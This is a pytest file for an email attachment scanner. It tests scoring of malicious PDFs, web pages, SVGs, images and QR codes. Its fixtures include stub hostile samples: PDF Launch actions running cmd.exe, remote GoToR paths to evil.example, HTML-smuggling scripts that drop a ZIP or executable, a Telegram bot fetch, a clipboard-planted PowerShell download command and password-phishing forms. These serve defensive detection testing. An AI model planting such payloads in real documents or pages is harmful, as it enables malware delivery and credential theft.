"""PDF files, pages and pictures: what they do is seen, and honest ones are left alone."""

import base64
import io
import time
import zlib

import pytest
from PIL import Image

from daemon.sandbox import Examiner
from mailflows.examine.finding import Finding, Severity
from mailflows.examine.pages import readings
from mailflows.examine.pages.documents import not_read, what_it_does
from mailflows.examine.pages.redraw import as_png
from mailflows.examine.seen import Part
from mailflows.examine.turn import take_turn
from tests.exhibits import mail, part, zipped
from tests.exhibits.pages import (
    archive_page,
    as_file,
    beside,
    boxes,
    claiming,
    code,
    holding,
    in_letters,
    linked,
    locked,
    packed,
    pdf,
    photograph,
    stream,
    with_picture,
)

OURS = ("F09", "F10", "F21", "F25")
LETTER = "\n".join(["Dear colleagues, the next meeting of the editors is on Monday at ten in the large room."] * 12)


def findings_of(content: bytes, name: str) -> list[Finding]:
    """What is found in one file and in what lies in it."""
    raw = mail("look", part(content, "application/octet-stream", name))
    found: list[Finding] = []
    waiting = ["mail/2"]
    while waiting:
        turn = take_turn(raw, waiting.pop(0))
        found += turn.findings
        waiting += turn.further
    return found


def told(content: bytes, name: str, look: str) -> list[tuple[Severity, int]]:
    """How grave each finding of one look is, the gravest first."""
    found = [finding for finding in findings_of(content, name) if finding.look == look and finding.path == "mail/2"]
    return sorted(((one.severity, one.weight) for one in found), key=lambda one: -one[1])


def heaviest(content: bytes, name: str, look: str) -> int:
    return max((weight for _, weight in told(content, name, look)), default=0)


def a_file(content: bytes, name: str, *words: str) -> Part:
    return Part(1, "application/octet-stream", None, (name,), True, content, False, words)


def links_of(content: bytes, name: str) -> set[tuple[str, str]]:
    showing = next(one for one in readings.SHOWINGS if one.fits(a_file(content, name)))
    return {(link.target, link.where) for link in showing.show(a_file(content, name)).links}


# PDF files.


@pytest.mark.parametrize(
    ("content", "weight"),
    [
        (pdf(root=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), 6),
        (pdf(sheet=b"/AA << /O << /S /Launch /F (run.bat) >> >>"), 6),
        (pdf(root=b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://x.example')) >>"), 5),
        (pdf(root=b"/OpenAction << /S /JavaScript /JS (this.exportDataObject({cName:'a',nLaunch:2})) >>"), 5),
        (pdf(root=b"/OpenAction << /S /JavaScript /JS (eval\\(unescape\\('%61'\\)\\)) >>"), 4),
        (pdf(b"<< /S /JavaScript /JS 7 0 R >>", stream(b"app.launchURL('x')"), root=b"/OpenAction 6 0 R"), 5),
        (pdf(root=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (var a = 1;) >>] >> >>"), 2),
        (pdf(sheet=b"/AA << /O << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >> >>"), 5),
        (pdf(b"<< /S /GoToE /F << /Type /Filespec /F (//evil.example/s/x.pdf) >> >>"), 5),
        (pdf(b"<< /S /SubmitForm /F << /FS /URL /F (https://x.example/get) >> >>"), 2),
        (pdf(b"<< /S /SubmitForm /F (https://x.example) >>", b"<< /FT /Tx /T (pin) /Ff 8192 >>"), 4),
        (pdf(b"<< /S /ImportData /F (a.fdf) >>"), 2),
        (pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"), 2),
        (pdf(root=b"/OpenAction << /S /URI /URI (https://x.example/) >>"), 3),
        (pdf(stream(b"<xdp><script>xfa.host.gotoURL('x')</script></xdp>"), root=b"/AcroForm << /XFA 6 0 R >>"), 4),
        (pdf(root=b"/OpenAction << /S /J#61vaScript /J#53 (var a = 1;) >>"), 4),
        (packed(pdf(b"<< /S /Launch /F (run.exe) >>", root=b"/OpenAction 6 0 R")), 6),
        (holding("photo.exe", b"MZ"), 6),
        (holding("plan.docm", b"PK"), 2),
        (pdf(sheet=linked("https://x.example/"), words="Open"), 3),
        (with_picture(as_file(photograph()), b"https://x.example/"), 2),
        (pdf(sheet=linked("https://x.example/", "100 400 200 430"), words="You have a new document.\nOpen it"), 1),
        (pdf(b"<< /S /Launch /F (run.exe) >>", root=b"/OpenAction 6 0 R").replace(b"xref", b"yref"), 6),
        (b"junk" * 100 + pdf(root=b"/OpenAction << /S /Launch /F (run.exe) >>"), 6),
    ],
)  # fmt: skip
def test_f09_a_pdf_that_does_more_than_show(content: bytes, weight: int) -> None:
    assert heaviest(content, "letter.pdf", "F09") == weight


@pytest.mark.parametrize(
    "content",
    [
        pdf(words=LETTER),
        pdf(words=LETTER, sheet=linked("https://paper.example/", "50 20 200 40")),
        pdf(words=LETTER, root=b"/OpenAction [3 0 R /XYZ null null 0]"),
        pdf(
            words=LETTER,
            root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
            sheet=linked("https://a.example/", "50 20 90 40"),
        ),
        pdf(words=LETTER, root=b"/OpenAction << /S /Named /N /Print >>"),
        pdf(
            b"<< /FT /Tx /T (sum) /AA << /C << /S /JavaScript /JS (AFSimple_Calculate\\('SUM', ['a','b']\\);) >> >> >>"
        ),
        pdf(b"<< /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >>"),
        pdf(b"<< /Type /Font /Subtype /Type1 /BaseFont /Traditional#20Arabic >>", words=LETTER),
        holding("factur-x.xml", b"<?xml version='1.0'?><invoice/>"),
        with_picture(as_file(photograph())),
        locked(pdf(words=LETTER), ""),
        packed(pdf(words=LETTER)),
    ],
)
def test_an_honest_pdf_is_left_alone(content: bytes) -> None:
    found = [finding for finding in findings_of(content, "letter.pdf") if finding.look in OURS and finding.weight]
    assert not found


def test_a_button_that_opens_a_page_is_no_more_than_a_link() -> None:
    button = pdf(b"<< /FT /Btn /A << /S /JavaScript /JS (app.launchURL\\('https://x.example/a'\\)) >> >>")
    assert told(button, "form.pdf", "F09") == [(Severity.MEDIUM, 2)]
    assert ("https://x.example/a", "script") in links_of(button, "form.pdf")


def test_a_script_in_a_form_is_worth_a_mention_only() -> None:
    counting = pdf(b"<< /FT /Tx /T (sum) /AA << /C << /S /JavaScript /JS (event.value = 2 * 3;) >> >> >>")
    assert told(counting, "form.pdf", "F09") == [(Severity.MEDIUM, 1)]


def test_a_locked_pdf_opens_with_a_word_of_the_mail_and_else_is_told() -> None:
    closed = locked(pdf(root=b"/OpenAction << /S /Launch /F (run.exe) >>"), "رمز-2026")
    assert told(closed, "letter.pdf", "F25")[0] == (Severity.MEDIUM, 2)
    opened = a_file(closed, "letter.pdf", "wrong", "رمز-2026")
    assert not list(not_read(opened))
    assert [saw.weight for saw in what_it_does(opened)] == [6, 1]


def test_a_damaged_pdf_is_told_and_an_empty_one_is_no_alarm() -> None:
    assert told(b"%PDF-1.7\n1 0 obj\n<< /Type", "a.pdf", "F25")[0] == (Severity.LOW, 1)
    assert not heaviest(b"%PDF-1.7", "a.pdf", "F25")


def test_what_a_damaged_pdf_names_is_told() -> None:
    torn = b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /Launch /F (run.exe) >>"
    assert told(torn, "a.pdf", "F09") == [(Severity.MEDIUM, 2)]


def test_a_pdf_without_end_of_objects_still_tells_what_it_starts() -> None:
    content = pdf(*[b"null"] * 150_000, root=b"/OpenAction << /S /Launch /F (run.exe) >>")
    assert heaviest(content, "a.pdf", "F09") == 6 and (Severity.LOW, 1) in told(content, "a.pdf", "F25")


def test_what_a_pdf_shows_is_read() -> None:
    content = pdf(words="Write to https://written.example/a today", sheet=linked("https://clicked.example/"))
    showing = readings.shown_by_pdf(a_file(content, "a.pdf"))
    assert "Write to" in showing.text and showing.form == "file"
    assert {link.target for link in showing.links} == {"https://written.example/a", "https://clicked.example/"}


def test_a_file_in_a_pdf_is_looked_at_itself() -> None:
    found = findings_of(holding("photo.exe", b"MZ\x90\x00"), "letter.pdf")
    assert ("F16", "mail/2/in/1") in {(finding.look, finding.path) for finding in found}


# Codes.


@pytest.mark.parametrize(
    ("words", "severity", "weight"),
    [
        ("sgnl://linkdevice?uuid=abc&pub_key=def", Severity.HIGH, 6),
        ("https://group.example/join?to=sgnl%3A%2F%2Flinkdevice%3Fuuid%3Da", Severity.HIGH, 6),
        ("https://signal.group/#CjQKIAbc", Severity.LOW, 1),
        ("2@abcdefghijklmnop,qrstuvwxyz,0123456789=,abcd", Severity.HIGH, 6),
        ("https://wa.me/settings/linked_devices#2@abcdefgh", Severity.HIGH, 6),
        ("tg://login?token=abc", Severity.HIGH, 6),
        ("otpauth://totp/a?secret=JBSWY3DPEHPK3PXP", Severity.MEDIUM, 2),
        ("https://x.example/a", Severity.LOW, 1),
        ("HTTPS://X.EXAMPLE/A", Severity.LOW, 1),
        ("x.example/login", Severity.LOW, 1),
        ("WIFI:T:WPA;S:cafe;P:abc;;", Severity.INFO, 0),
        ("BEGIN:VCARD\nFN:ليلى\nEND:VCARD", Severity.INFO, 0),
        ("BCD\n002\n1\nSCT\n\nPaper\nAT611904300234573201", Severity.INFO, 0),
        ("smsto:555:hello", Severity.INFO, 0),
        ("مرحبا", Severity.INFO, 0),
    ],
)
def test_f21_what_a_telephone_would_do(words: str, severity: Severity, weight: int) -> None:
    assert told(code(words), "a.png", "F21") == [(severity, weight)]


@pytest.mark.parametrize(
    "picture",
    [
        code("https://x.example/"),
        code("https://x.example/", dark="white", light="black"),
        code("https://x.example/", scale=1, border=1),
        code("https://x.example/", light=None),
        code("https://x.example/", dark="white", light=None),
        beside(code("https://y.example/"), code("https://x.example/")),
        as_file(Image.open(io.BytesIO(code("https://x.example/"))).convert("RGB"), "JPEG"),
        as_file(Image.open(io.BytesIO(code("https://x.example/"))).convert("RGB"), "WEBP"),
        as_file(Image.open(io.BytesIO(code("https://x.example/"))).convert("P"), "GIF"),
        as_file(Image.open(io.BytesIO(code("https://x.example/"))).convert("CMYK"), "TIFF"),
        as_file(Image.open(io.BytesIO(code("https://x.example/"))).rotate(90, expand=True)),
        with_picture(code("https://x.example/", scale=10)),
    ],
)
def test_a_code_is_found_and_its_link_is_judged(picture: bytes) -> None:
    name = "a.pdf" if picture.startswith(b"%PDF") else "a.png"
    assert ("https://x.example/", "qr") in links_of(picture, name)
    assert heaviest(picture, name, "F21") == 1


def test_the_link_in_a_code_answers_to_the_looks_at_links() -> None:
    found = findings_of(code("http://0xCB007109/login"), "a.png")
    assert {"U05", "F21"} <= {finding.look for finding in found}
    assert links_of(code("BEGIN:VCARD\nURL:https://x.example/\nEND:VCARD"), "a.png") == {("https://x.example/", "qr")}


# Pictures.


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF"])
def test_an_honest_picture_is_left_alone(kind: str) -> None:
    assert not [finding for finding in findings_of(as_file(photograph(), kind), "a") if finding.look in OURS]


def test_broken_and_foreign_pictures_are_told_quietly() -> None:
    whole = as_file(photograph())
    for content, name in (
        (whole[:-40], "a.png"),
        (whole.replace(b"IEND", b"IXND"), "a.png"),
        (boxes((b"ftyp", b"heic\0\0\0\0"), (b"mdat", b"x" * 100)), "a.heic"),
        (boxes((b"ftyp", b"heic\0\0\0\0"), (b"mdat", b"x" * 100))[:-9], "a.heic"),
        (b"\x01\x02\x03" * 100, "a.jpg"),
    ):
        assert told(content, name, "F25") == [(Severity.INFO, 0)]


def test_a_bomb_is_not_decoded() -> None:
    for size in ((30_000, 30_000), (9_000, 9_000), (100_000, 2)):
        assert told(claiming(*size), "a.png", "F25") == [(Severity.LOW, 1)]


@pytest.mark.parametrize(
    "picture",
    [
        as_file(photograph(4000, 300)),
        as_file(photograph(900, 700, "CMYK"), "JPEG"),
        as_file(photograph(mode="P"), "GIF", save_all=True, append_images=[photograph(mode="P").rotate(90)]),
        as_file(photograph(mode="I;16"), "PNG"),
        as_file(photograph(mode="RGBA")),
        as_file(photograph(mode="1"), "TIFF"),
        as_file(Image.effect_noise((1700, 1200), 90).convert("RGB"), "JPEG", quality=60),
    ],
)
def test_a_picture_is_drawn_anew(picture: bytes) -> None:
    fresh = as_png(picture)
    drawn = Image.open(io.BytesIO(fresh))
    drawn.load()
    assert drawn.format == "PNG" and max(drawn.size) <= 1600 and len(fresh) <= 1024 * 1024


def test_what_a_camera_noted_stays_behind_and_the_picture_stands_upright() -> None:
    notes = Image.Exif()
    notes[0x0112], notes[0x010F], notes[0x9003] = 6, "Telephone of Layla", "2026:06:01 10:00:00"
    fresh = as_png(as_file(photograph(300, 200), "JPEG", exif=notes, comment=b"at home"))
    drawn = Image.open(io.BytesIO(fresh))
    assert drawn.size == (200, 300) and not drawn.getexif() and not drawn.info
    assert b"Layla" not in fresh and b"home" not in fresh


@pytest.mark.parametrize("content", [b"", b"MZ", b"\x89PNG\r\n\x1a\n", claiming(30_000, 30_000), b"<svg/>"])
def test_what_is_no_picture_is_not_drawn(content: bytes) -> None:
    with pytest.raises(ValueError, match="picture"):
        as_png(content)


# Pages sent as files.

ZIP64 = base64.b64encode(zipped(invoice__js=b"var a = 1;" * 40)).decode()
PE64 = base64.b64encode(b"MZ\x90\x00" + bytes(300)).decode()
SMUGGLE = (
    '<html><script>var d = atob("%s"); var b = new Blob([Uint8Array.from(d, c => c.charCodeAt(0))]);'
    'var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.zip"; a.click();'
    "</script></html>"
)
ESCAPED = "".join(f"%{ord(sign):02x}" for sign in "<html><form>" * 9)
PNG64 = base64.b64encode(as_file(photograph())).decode()
PASSWORD = '<html><body>Sign in<form action="https://x.example/get.php" method="post">%s<input type="password"></form>'
TALE = "<p>" + "The editors met on Monday and spoke of many things. " * 20 + "</p>"


@pytest.mark.parametrize(
    ("content", "weight"),
    [
        (SMUGGLE % ZIP64, 6),
        (SMUGGLE % PE64, 6),
        (SMUGGLE % "AAAA", 5),
        ((SMUGGLE % ZIP64).encode("utf-16"), 6),
        (f'<html><a download="a.zip" href="data:application/zip;base64,{ZIP64}">Open</a></html>', 6),
        (f"<html><script>var b = [{','.join(str(octet) for octet in b'MZ' + bytes(150))}]</script></html>", 6),
        (f"<html><script>var b = '{(b'MZ' + bytes(300)).hex()}'</script></html>", 6),
        (f"<html><script>var b = '{base64.b64encode(PE64.encode()).decode()}'</script></html>", 6),
        (f"<script>document.write(unescape('{ESCAPED}'))</script>", 4),
        ("<html><script>eval(atob('YWxlcnQoMSk='))</script></html>", 4),
        ("<html><script>Function(String.fromCharCode(97,98))()</script></html>", 4),
        (f"<html><script>{' '.join(f'var _0x{n:04x}=1;' for n in range(20))}</script></html>", 4),
        (PASSWORD % "", 6),
        ("<html>Sign in<input type=password></html>", 4),
        ('<html><form action="https://x.example/"><input name="card"></form></html>', 2),
        ("<html><script>fetch('https://api.telegram.org/bot12:AA/sendMessage?chat_id=1')</script></html>", 5),
        ('<html><meta http-equiv="refresh" content="0; url=https://x.example/"></html>', 3),
        ("<html><script>window.location.href = 'https://x.example/'</script></html>", 3),
        ("<html><script>window['loc'+'ation'] = 'https://' + 'x.example/'</script></html>", 3),
        ('<html><iframe src="https://x.example/" width="100%"></iframe></html>', 2),
        ('<html><img src="file://evil.example/a.png"></html>', 5),
        ('<html><form><input type="email" value="layla@reporter.example"></form></html>', 2),
        ("<html><script>var a = 1;</script></html>", 1),
        ("<html><script>x.innerHTML = '<input type=password>'; fetch('https://x.example/')</script></html>", 6),
        ('<html><script src="https://x.example/a.js"></script></html>', 3),
        ("<html><script>navigator.clipboard.writeText('powershell -w h -c iwr x')</script></html>", 5),
        ('<html><script language="vbscript">CreateObject("WScript.Shell").Run "calc"</script></html>', 5),
        ("<html><script>var a = 1;</script>" + "\n" * 600 + "</html>", 2),
        ('<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'https://x.example/\'"></svg>', 5),
        ('<?xml version="1.0"?>\n<!-- a -->\n<svg><script><![CDATA[location.replace(atob("aA"))]]></script></svg>', 5),
        ('<svg><a xlink:href="javascript:alert(1)"><rect/></a></svg>', 3),
        ("<svg><foreignObject><body><form><input></form></body></foreignObject></svg>", 4),
    ],
)  # fmt: skip
def test_f10_a_page_that_does_more_than_show(content: str | bytes, weight: int) -> None:
    octets = content if isinstance(content, bytes) else content.encode()
    name = "a.svg" if b"<svg" in octets else "a.html"
    assert heaviest(octets, name, "F10") == weight


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (f'<html><style>p {{color: red}}</style>{TALE}<a href="https://x.example/">more</a></html>', "a.html"),
        (f"<html>{TALE}<img src='data:image/png;base64,{PNG64}'></html>", "a.html"),
        (f'<html>{TALE}<script type="application/ld+json">{{"@id": "https://x.example"}}</script></html>', "a.htm"),
        ('<html><p dir="rtl">مرحبا بكم في موقع الصحيفة</p></html>', "مقال.html"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/><text>نص</text></svg>', "a.svg"),
        ("<svg><foreignObject><div>words</div></foreignObject></svg>", "a.svg"),
        ('<html><form action="https://search.example/"><input name="q"></form></html>', "a.html"),
        ('<html><meta http-equiv="refresh" content="0; url=page2.html"></html>', "a.html"),
    ],
)  # fmt: skip
def test_an_honest_page_is_left_alone(content: str, name: str) -> None:
    found = [one for one in findings_of(content.encode(), name) if one.look in OURS and one.weight]
    assert not found


def test_a_page_that_knows_its_reader() -> None:
    known = base64.b64encode(b"layla@reporter.example.").decode()
    page = f"<html><script>var who = atob('{known[:-4]}'); location = 'https://x.example/#' + who</script></html>"
    assert (Severity.MEDIUM, 2) in told(page.encode(), "a.html", "F10")


def test_what_a_page_smuggles_is_looked_at_itself() -> None:
    found = findings_of((SMUGGLE % PE64).encode(), "a.html")
    assert ("F16", "mail/2/in/1") in {(finding.look, finding.path) for finding in found}
    asked = base64.b64encode((PASSWORD % " " * 3).encode()).decode()
    found = findings_of(f"<html><script>document.write(atob('{asked}'))</script></html>".encode(), "a.html")
    assert ("F10", "mail/2/in/1") in {(finding.look, finding.path) for finding in found}


def test_where_code_leads_is_judged_like_a_link() -> None:
    page = b"<html><script>location = 'http://0xCB007109/login'</script></html>"
    assert ("http://0xCB007109/login", "script") in links_of(page, "a.html")
    assert "U05" in {finding.look for finding in findings_of(page, "a.html")}
    assert links_of(b'<svg><a xlink:href="https://x.example/"><rect/></a></svg>', "a.svg") == {
        ("https://x.example/", "html")
    }


def test_a_saved_page_is_taken_apart() -> None:
    saved = archive_page(
        [
            {"kind": b"image/png", "place": b"https://x.example/a.png", "content": b"\x89PNG"},
            {"kind": b"text/html; charset=utf-8", "place": b"https://x.example/", "content": (PASSWORD % "").encode()},
        ]
    )
    found = findings_of(saved, "page.mht")
    assert ("F10", "mail/2/in/2") in {(finding.look, finding.path) for finding in found}


@pytest.mark.parametrize("how", ["halves", "blocks", "squares", "table"])
def test_a_code_drawn_with_letters_is_read(how: str) -> None:
    drawn = in_letters("https://x.example/", how)
    name = "a.html" if how == "table" else "a.txt"
    assert ("https://x.example/", "qr") in links_of(drawn.encode(), name)


def test_texts_are_read_in_their_alphabet() -> None:
    for octets in ("مرحبا بالعالم، كيف حالكم اليوم".encode(), "مرحبا بالعالم، كيف حالكم اليوم".encode("cp1256")):
        assert "كيف حالكم" in readings.shown_by_text(a_file(octets, "a.txt")).text
    assert "déjà vu à Évry" in readings.shown_by_text(a_file("déjà vu à Évry".encode("cp1252"), "a.txt")).text
    assert "سلام" in readings.shown_by_text(a_file("سلام".encode("utf-16"), "a.txt")).text
    assert links_of(b"see https://x.example/a", "a.csv") == {("https://x.example/a", "text")}
    assert not [one for one in findings_of(b"see you, 1 2 3", "a.log") if one.look in OURS]


# What is made to stop whoever reads it.


def nested(deep: int) -> bytes:
    """A sheet that draws a thing ten times, which draws another ten times, and so on."""
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] "
    inner = [
        stream(b"/X Do " * 10, head + b"/Resources << /XObject << /X %d 0 R >> >> " % (7 + n)) for n in range(deep)
    ]
    return pdf(
        *inner,
        stream(b"0 0 m 9 9 l S", head),
        stream(b"/X Do"),
        sheet=b"/Contents %d 0 R /Resources << /XObject << /X 6 0 R >> >> " % (7 + deep),
        root=b"/OpenAction << /S /Launch /F (run.exe) >>",
    )


def bomb(octets: int) -> bytes:
    return stream(zlib.compress(bytes(octets), 9), b"/Filter /FlateDecode ")


def test_what_cannot_be_drawn_does_not_hide_what_starts() -> None:
    for content in (
        nested(20),
        pdf(bomb(90_000_000), sheet=b"/Contents 6 0 R ", root=b"/OpenAction << /S /Launch /F (a.exe) >>"),
    ):
        assert heaviest(content, "a.pdf", "F09") == 6
        assert (Severity.LOW, 1) in told(content, "a.pdf", "F25")
    strokes = stream(b"0 0 m 9 9 l S\n" * 11_000)
    assert (Severity.INFO, 0) in told(pdf(strokes, sheet=b"/Contents 6 0 R "), "a.pdf", "F25")


@pytest.mark.sandbox
def test_within_the_walls_all_of_it_works() -> None:
    examiner = Examiner.started()
    try:
        whole = mail(
            "look",
            part(with_picture(code("https://x.example/a", scale=10)), "application/pdf", "a.pdf"),
            part(
                as_file(Image.open(io.BytesIO(code("https://x.example/b"))).convert("RGB"), "WEBP"),
                "image/webp",
                "b.webp",
            ),
            part((SMUGGLE % PE64).encode(), "text/html", "c.html"),
            part(as_file(photograph(3000, 2000), "JPEG"), "image/jpeg", "d.jpg"),
        )
        examined = examiner.examine(whole)
        told = {(finding.look, finding.path) for finding in examined.findings}
        assert {("F21", "mail/2"), ("F21", "mail/3"), ("F10", "mail/4"), ("F16", "mail/4/in/1")} <= told
        assert "reader" not in " ".join(one.evidence for one in examined.findings if one.look == "F25")
        assert (examiner.drawn(whole, "mail/5") or b"").startswith(b"\x89PNG")
    finally:
        examiner.close()


HOSTILE = {
    "many lists": (pdf(b"[" * 5000 + b"]" * 5000), "a.pdf"),
    "a loop of pages": (pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "a.pdf"),
    "a loop of actions": (pdf(b"<< /S /JavaScript /JS (a) /Next 6 0 R >>", root=b"/OpenAction 6 0 R"), "a.pdf"),
    "a bomb of streams": (pdf(*[stream(b"<< /S /JavaScript /JS 7 0 R >>")] * 3000), "a.pdf"),
    "scripts without end": (b"<html>" + b"<script" * 80_000, "a.html"),
    "tags without end": (b"<html>" + b"<script>" * 40_000, "a.html"),
    "short runs": (b"<html>" + (b"A" * 159 + b" ") * 8_000, "a.html"),
    "short numbers": (b"<html>[" + b"[1,2,3," * 80_000, "a.html"),
    "short hex": (b"<html>" + (b"a" * 399 + b".") * 8_000, "a.html"),
    "only spaces": (b"<html><script>a" + (b" " * 299 + b"a") * 3_000, "a.html"),
    "deep": (b"<html>" + b"<div>" * 150_000, "a.html"),
    "brackets": (b"<html><script>" + (b"[" * 399 + b"a") * 1_000, "a.html"),
    "data without end": (b"<html>" + b"data:text/html," * 100_000, "a.html"),
    "plus signs": (b"<html><script>" + b"'a' + " * 100_000, "a.html"),
    "lines that draw": (("\u2588" * 300 + "\n").encode() * 2000, "a.txt"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_made_to_stop_its_reader_does_not(name: str) -> None:
    content, called = HOSTILE[name]
    before = time.process_time()
    findings_of(content, called)
    assert time.process_time() - before < 3
